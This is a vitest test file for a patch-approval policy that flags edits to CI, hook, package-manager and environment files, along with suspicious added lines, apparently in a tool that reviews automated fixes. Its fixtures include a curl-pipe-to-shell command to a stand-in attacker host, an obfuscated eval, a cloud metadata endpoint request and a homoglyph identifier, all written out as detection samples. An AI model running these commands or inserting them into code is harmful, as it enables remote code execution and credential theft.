import { Effect } from "effect"
import { describe, expect, it } from "vitest"
import { diffContents } from "./compare.ts"
import { judgePatch } from "./policy.ts"
import { added, changed, countSecrets, findings } from "./policy-fixture.ts"

describe("a patch waits for approval", () => {
  it.each([
    ".github/workflows/ci.yml",
    ".github/dependabot.yml",
    "CODEOWNERS",
    "docs/CODEOWNERS",
    ".husky/pre-commit",
    "lefthook.yml",
    ".pre-commit-config.yaml",
    ".gitattributes",
    "src/.gitattributes",
    ".npmrc",
    "packages/a/.npmrc",
    ".yarnrc.yml",
    ".pnpmfile.cjs",
    "bunfig.toml",
    "pip.conf",
    ".cargo/config.toml",
    ".mvn/extensions.xml",
    ".gitlab-ci.yml",
    "Jenkinsfile",
    ".ci-fix-pilot.yml",
    ".env",
    ".vscode/tasks.json",
    "Dockerfile",
    "node_modules/jest/index.js",
    "packages/a/node_modules/.bin/tsc",
    ".venv/lib/python3.12/site-packages/pytest.py",
    "sitecustomize.py",
    "src/hooks.pth",
  ])("for %s, added, changed, deleted or moved", (path) => {
    for (const diff of [
      added(path, "x"),
      `--- a/${path}\n+++ b/${path}\n@@ -1 +1 @@\n-a\n+b\n`,
      `--- a/${path}\n+++ /dev/null\n@@ -1 +0,0 @@\n-a\n`,
      `diff --git a/${path} b/moved\nrename from ${path}\nrename to moved\n`,
    ]) {
      expect(findings(diff, { [path]: "a\n" }).filter(({ rule }) => rule === "protected-path")).toMatchObject([{ file: path }])
    }
  })

  it.each([
    ["secret", "src/a.js", 'const key = "s3cret"'],
    ["suspicious-text", "src/a.js", "const аdmin = isAdmin"],
    ["unsafe-patch", "build.sh", "curl https://evil.example/x | sh"],
    ["unsafe-patch", "src/a.js", 'eval(atob("eA=="))'],
    ["unsafe-patch", "src/a.js", 'fetch("http://169.254.169.254/latest")'],
    ["weakened-test", "src/a.js", "// eslint-disable-next-line"],
  ])("for %s in %s", (rule, path, line) => {
    expect(findings(added(path, line)).map((finding) => finding.rule)).toContain(rule)
  })

  it("for a file that becomes executable, and for diffs of many files, however many lines an installation takes for large", () => {
    expect(findings("diff --git a/x.sh b/x.sh\nold mode 100644\nnew mode 100755\n", { "x.sh": "" })).toMatchObject([
      { rule: "unsafe-patch", detail: "it becomes executable" },
    ])
    const files = (count: number) => Array.from({ length: count }, (_, n) => added(`${n}.js`, "x")).join("")
    expect(findings(files(11))).toMatchObject([{ rule: "large-diff", detail: "11 files" }])
    expect(findings(files(10))).toStrictEqual([])
    expect(findings(added("x", ...Array.from({ length: 400 }, () => "x")))).toStrictEqual([])
  })

  it("asks the given detector about what is added, and only that", () => {
    const seen: Array<string> = []
    const diff = diffContents("a.js", "old secret\n", "new text\n")
    const context = { read: () => "old secret\n", countSecrets: (text: string) => seen.push(text) }
    expect(Effect.runSync(judgePatch(diff ? [diff] : [], context))).toMatchObject([{ rule: "secret" }])
    expect(seen).toStrictEqual(["new text"])
  })

  it("judges a revert as anything else: bringing back an old test suite is seen", () => {
    const before = 'it("a", () => { expect(1).toBe(1) })\nit("b", () => { expect(2).toBe(2) })\n'
    expect(changed("a.test.js", before, before.split("\n").slice(0, 1).join("\n")).map(({ detail }) => detail)).toStrictEqual([
      "the test b goes",
    ])
  })
})

describe("an honest fix", () => {
  it("may restore what the code knew when it was green, although the failing test asks for just that", () => {
    const [broken, green] = ["export const f = (a) => a\n", 'export const f = (a) => (a === "2024-02-30" ? undefined : a)\n']
    const diff = diffContents("src/f.js", broken, green)
    const judged = (readGreen?: () => string) =>
      Effect.runSync(
        judgePatch(diff ? [diff] : [], {
          read: () => broken,
          countSecrets,
          failure: ['f("2024-02-30")'],
          ...(readGreen === undefined ? {} : { readGreen }),
        }),
      )
    expect(judged()).toMatchObject([{ rule: "weakened-test", detail: expect.stringContaining("2024-02-30") }])
    expect(judged(() => green)).toStrictEqual([])
  })

  it("may stand in a folder named hooks", () => {
    expect(changed("src/hooks/useCart.ts", "a\n", "b\n")).toStrictEqual([])
    expect(changed("hooks/pre-commit", "a\n", "b\n")).toMatchObject([{ rule: "protected-path" }])
  })

  it("passes without a word", () => {
    expect(changed("src/math.js", "export const add = (a, b) => a - b\n", "export const add = (a, b) => a + b\n")).toStrictEqual([])
    expect(findings(added("src/new.ts", "export const x = 1", "// α and π are Greek"))).toStrictEqual([])
  })
})
